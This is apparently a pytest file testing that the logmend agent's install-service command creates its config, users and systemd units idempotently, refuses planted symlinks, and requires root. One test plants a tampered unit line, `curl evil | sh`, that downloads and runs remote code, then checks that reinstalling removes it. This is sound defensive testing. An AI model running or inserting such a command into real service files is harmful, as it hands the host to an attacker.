"""Issue 18, item 5: logmend installs the way other daemons do. The wheel carries the
packs and the unit files; `logmend install-service` lays out the config, the state,
the user and the units, idempotently, never through a planted link."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

from agent.config import parse_config

ROOT = Path(__file__).resolve().parent.parent


def logmend(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "agent", *args], capture_output=True, text=True, timeout=60
    )


def image(tmp_path: Path) -> Path:
    """An image root with the host's user database (useradd --root writes there)."""
    root = tmp_path / "image"
    (root / "etc").mkdir(parents=True)
    for name in ("passwd", "group", "shadow", "gshadow"):
        if Path("/etc", name).exists():
            shutil.copy(Path("/etc", name), root / "etc" / name)
    return root


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_install_lays_out_agent_and_receiver_and_a_second_run_changes_nothing(tmp_path):
    root = image(tmp_path)
    first = logmend("install-service", "--root", str(root), "--receiver")
    assert first.returncode == 0, first.stderr
    assert "logmend.service: created" in first.stdout
    assert "user logmend-receiver: created" in first.stdout
    assert mode(root / "var/lib/logmend") == 0o700 and mode(root / "etc/logmend") == 0o755
    unit = (root / "etc/systemd/system/logmend.service").read_text()
    here = str(Path(sys.executable).parent / "logmend")
    assert f"ExecStart={here} run -c /etc/logmend/agent.toml" in unit
    assert "/opt/logmend/bin/logmend" not in unit
    receiver_unit = (root / "etc/systemd/system/logmend-receiver.service").read_text()
    assert f"ExecStart={here} receiver" in receiver_unit
    user = next(
        line.split(":")
        for line in (root / "etc/passwd").read_text().splitlines()
        if line.startswith("logmend-receiver:")
    )
    group = next(
        line.split(":")
        for line in (root / "etc/group").read_text().splitlines()
        if line.startswith("logmend-receiver:")
    )
    assert user[6] == "/usr/sbin/nologin" and user[3] == group[2]  # its own group
    state = (root / "var/lib/logmend-receiver").stat()
    assert (state.st_uid, mode(root / "var/lib/logmend-receiver")) == (int(user[2]), 0o700)
    # the starter config is one the agent accepts
    config = root / "etc/logmend/agent.toml"
    parsed = parse_config(config, config.read_text())
    assert parsed.packs == (Path("/etc/logmend/packs.d"),) and parsed.sources
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    second = logmend("install-service", "--root", str(root), "--receiver")
    assert second.returncode == 0, second.stderr
    assert "created" not in second.stdout and "updated" not in second.stdout
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


def test_the_operators_config_is_never_overwritten_and_a_changed_unit_is_put_back(tmp_path):
    root = image(tmp_path)
    assert logmend("install-service", "--root", str(root)).returncode == 0
    config = root / "etc/logmend/agent.toml"
    config.write_text("# mine\n")
    unit = root / "etc/systemd/system/logmend.service"
    unit.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    again = logmend("install-service", "--root", str(root))
    assert again.returncode == 0, again.stderr
    assert config.read_text() == "# mine\n" and "never overwritten" in again.stdout
    assert "logmend.service: updated" in again.stdout and "curl" not in unit.read_text()


def test_a_planted_link_or_file_is_refused_not_written_through(tmp_path):
    root = image(tmp_path)
    (root / "etc/systemd/system").mkdir(parents=True)
    target = tmp_path / "elsewhere"
    os.symlink(target, root / "etc/systemd/system/logmend.service")
    done = logmend("install-service", "--root", str(root))
    assert done.returncode == 1 and "is a symbolic link" in done.stderr
    assert not target.exists()
    root = image(tmp_path / "b")
    (root / "var/lib").mkdir(parents=True)
    (root / "var/lib/logmend").write_text("a file")
    done = logmend("install-service", "--root", str(root))
    assert done.returncode == 1 and "is not a folder" in done.stderr
    assert "Traceback" not in done.stderr


def test_installing_on_the_system_takes_root():
    """As an ordinary user (nobody), on / itself: refused before anything is touched."""
    done = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
         sys.executable, "-m", "agent", "install-service"],
        capture_output=True, text=True, timeout=60, cwd="/",
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 1 and "run it as root" in done.stderr, done.stderr


def test_the_wheel_ships_the_units_and_the_packs_and_install_finds_them(tmp_path):
    """Built as pip builds it (hatchling), installed apart from this checkout."""
    built = subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q",
         "-w", str(tmp_path / "dist"), str(ROOT)],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert built.returncode == 0, built.stderr
    [wheel] = (tmp_path / "dist").glob("logmend-*.whl")
    names = zipfile.ZipFile(wheel).namelist()
    assert "agent/_systemd/logmend.service" in names
    assert "agent/_systemd/logmend-receiver.service" in names
    assert any(n.startswith("agent/_packs/nginx/") for n in names)
    site = tmp_path / "site"
    zipfile.ZipFile(wheel).extractall(site)  # the installed package, no checkout beside it
    from_wheel = subprocess.run(
        [sys.executable, "-c", "from agent.install import units_folder; print(units_folder())"],
        capture_output=True, text=True, timeout=60, cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(site)},
    )  # fmt: skip
    assert from_wheel.returncode == 0, from_wheel.stderr
    assert from_wheel.stdout.strip() == str(site / "agent" / "_systemd")
